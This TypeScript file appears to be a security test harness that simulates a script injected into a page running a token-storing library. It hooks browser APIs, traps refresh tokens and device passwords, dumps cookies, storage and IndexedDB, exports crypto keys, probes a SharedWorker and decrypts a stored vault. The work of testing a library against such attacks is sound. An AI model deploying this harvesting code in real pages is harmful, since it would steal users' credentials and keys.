/** An injected script, with every API that a page has. It runs in the page, before or after the application's own scripts. */

declare global {
  // What the script has seen or found, as text.
  var loot: string[];
  // Set by `injectAttacker`.
  var attack: (
    conversations: readonly (readonly Readonly<Record<string, unknown>>[])[],
    worker: string,
    name: string,
  ) => Promise<void>;
}

/** In the page: replaces what the application and the library may use, and records all that comes along. */
export function injectAttacker(): void {
  const seen = new WeakSet();
  globalThis.loot = [];
  const { push } = Array.prototype;
  const { stringify } = JSON;
  const decoder = new TextDecoder();
  const { decode } = TextDecoder.prototype;
  const record = (value: unknown, depth = 0): void => {
    if (typeof value === 'string') push.call(loot, value);
    if (typeof value === 'function') push.call(loot, Function.prototype.toString.call(value));
    if ((typeof value !== 'object' && typeof value !== 'function') || value === null) return;
    if (seen.has(value) || depth > 12) return;
    seen.add(value);
    try {
      if (value instanceof ArrayBuffer || ArrayBuffer.isView(value))
        push.call(loot, decode.call(decoder, value as ArrayBuffer));
      if (value instanceof Error) push.call(loot, `${value.message} ${String(value.stack)}`);
      if (value instanceof Map || value instanceof Set) for (const item of value) record(item, depth + 1);
      const text: unknown = stringify(value);
      if (typeof text === 'string') push.call(loot, text);
    } catch {
      // It refers to itself, or refuses to be read.
    }
    for (const key of Reflect.ownKeys(value)) {
      try {
        record(Reflect.get(value, key), depth + 1);
      } catch {
        // A getter threw.
      }
    }
  };
  const wrap = (holder: object, name: string): void => {
    const original = Reflect.get(holder, name) as unknown;
    if (typeof original !== 'function') return;
    const replaced = function (this: unknown, ...inputs: unknown[]): unknown {
      for (const input of inputs) record(input);
      const constructed: unknown = new.target;
      const output: unknown =
        constructed === undefined ? Reflect.apply(original, this, inputs) : Reflect.construct(original, inputs);
      record(output);
      return output;
    };
    Object.setPrototypeOf(replaced, original);
    replaced.prototype = original.prototype as object;
    Reflect.set(holder, name, replaced);
  };
  const page = globalThis as unknown as Record<string, { prototype: object }>;
  for (const name of [
    'fetch',
    'structuredClone',
    'Worker',
    'SharedWorker',
    'BroadcastChannel',
    'MessageChannel',
    'queueMicrotask',
  ])
    wrap(globalThis, name);
  for (const [name, ...methods] of [
    ['MessagePort', 'postMessage', 'addEventListener'],
    ['Worker', 'postMessage'],
    ['BroadcastChannel', 'postMessage'],
    ['XMLHttpRequest', 'open', 'send', 'setRequestHeader'],
    ['Storage', 'getItem', 'setItem'],
    ['IDBObjectStore', 'put', 'get', 'add'],
    ['IDBFactory', 'open'],
    ['SubtleCrypto', 'encrypt', 'decrypt', 'importKey', 'generateKey', 'exportKey', 'wrapKey'],
    ['Promise', 'then'],
    ['Map', 'set'],
    ['Headers', 'set', 'append'],
    ['Response', 'json', 'text', 'arrayBuffer'],
  ] as const)
    for (const method of methods) wrap(page[name]?.prototype ?? {}, method);
  for (const method of ['parse', 'stringify']) wrap(JSON, method);
  for (const method of ['assign', 'defineProperty', 'fromEntries', 'entries', 'freeze']) wrap(Object, method);
  for (const method of ['log', 'warn', 'error', 'info', 'debug']) wrap(console, method);
  // Every message event that anybody reads.
  const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
  Object.defineProperty(MessageEvent.prototype, 'data', {
    configurable: true,
    get(this: MessageEvent) {
      const value: unknown = data?.get?.call(this);
      record(value);
      return value;
    },
  });
  for (const name of ['refreshToken', 'RefreshToken', 'randomPasswordKey', 'DevicePassword'])
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      set(this: object, value: unknown) {
        record(value);
        Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
      get: () => undefined,
    });

  /** Whether a script in this window can read what is stored. */
  const dump = async (): Promise<void> => {
    record({ ...localStorage });
    record({ ...sessionStorage });
    record(document.cookie);
    record([history.state, window.name, document.documentElement.outerHTML]);
    for (const entry of performance.getEntries()) record(entry.toJSON());
    record(await navigator.locks.query());
    for (const name of await caches.keys()) record(name);
    for (const { name = '' } of await indexedDB.databases()) {
      const opened = indexedDB.open(name);
      await new Promise((resolve) => (opened.onsuccess = resolve));
      for (const store of Array.from(opened.result.objectStoreNames)) {
        const objects = opened.result.transaction(store).objectStore(store);
        for (const request of [objects.getAllKeys(), objects.getAll()]) {
          await new Promise((resolve) => (request.onsuccess = resolve));
          record(request.result);
          for (const key of request.result as unknown[]) {
            if (!(key instanceof CryptoKey)) continue;
            for (const format of ['raw', 'jwk'] as const)
              record(await crypto.subtle.exportKey(format, key).catch((error: unknown) => error));
          }
        }
      }
      opened.result.close();
    }
  };

  type Message = Readonly<Record<string, unknown>>;

  /** Says all these things to a worker, and records what it answers. */
  const converse = async ({ port }: SharedWorker, messages: readonly Message[]): Promise<void> => {
    let heard: (answer: Message) => void = () => undefined;
    port.onmessage = ({ data: answer }: { readonly data: Message }) => {
      record(answer);
      // It answers questions, too.
      if (answer.type === 'ask') port.postMessage({ type: 'answer', id: answer.id, value: {} });
      heard(answer);
    };
    for (const message of messages) {
      const answered = new Promise<void>((resolve) => {
        heard = ({ type, id }) => {
          const isAnswer = message.type === 'connect' ? type === 'connected' || type === 'refused' : type === 'settled';
          if (isAnswer && id === message.id) resolve();
        };
      });
      port.postMessage(message);
      if (message.type === 'connect' || message.type === 'call') await answered;
    }
  };

  globalThis.attack = async (conversations, worker, ownName) => {
    await dump();
    const frame = document.createElement('iframe');
    frame.src = location.href;
    document.body.append(frame);
    await new Promise((resolve) => (frame.onload = resolve));
    const { SharedWorker: fresh } = frame.contentWindow as unknown as { readonly SharedWorker: typeof SharedWorker };
    for (const Class of [SharedWorker, fresh])
      for (const name of [ownName, 'another'])
        for (const messages of conversations)
          await converse(
            new Class(worker, { type: 'module', name, extendedLifetime: true } as WorkerOptions),
            messages,
          );
    await dump();
  };
}

/**
 * In the page: a script that was written for this library. It has the browser decrypt what is stored. The first entry is a mark, which
 * contains nothing.
 */
export async function decryptVault(): Promise<string[]> {
  const database = 'cognito-wasm.vault';
  if (!(await indexedDB.databases()).some(({ name }) => name === database)) return [];
  const opened = indexedDB.open(database);
  await new Promise((resolve) => (opened.onsuccess = resolve));
  const all = async (store: string): Promise<[unknown[], unknown[]]> => {
    if (!opened.result.objectStoreNames.contains(store)) return [[], []];
    const objects = opened.result.transaction(store).objectStore(store);
    const [keys, values] = [objects.getAllKeys(), objects.getAll()];
    await new Promise((resolve) => (values.onsuccess = resolve));
    return [keys.result, values.result as unknown[]];
  };
  const [, [key]] = await all('keys');
  const [names, records] = await all('items');
  opened.result.close();
  const texts = names.slice(1).map(async (name, index) => {
    const { iv, data } = records[index + 1] as { readonly iv: BufferSource; readonly data: BufferSource };
    const additionalData = new TextEncoder().encode(name as string);
    const bytes = await crypto.subtle.decrypt({ name: 'AES-GCM', iv, additionalData }, key as CryptoKey, data);
    return new TextDecoder().decode(bytes);
  });
  return await Promise.all(texts);
}
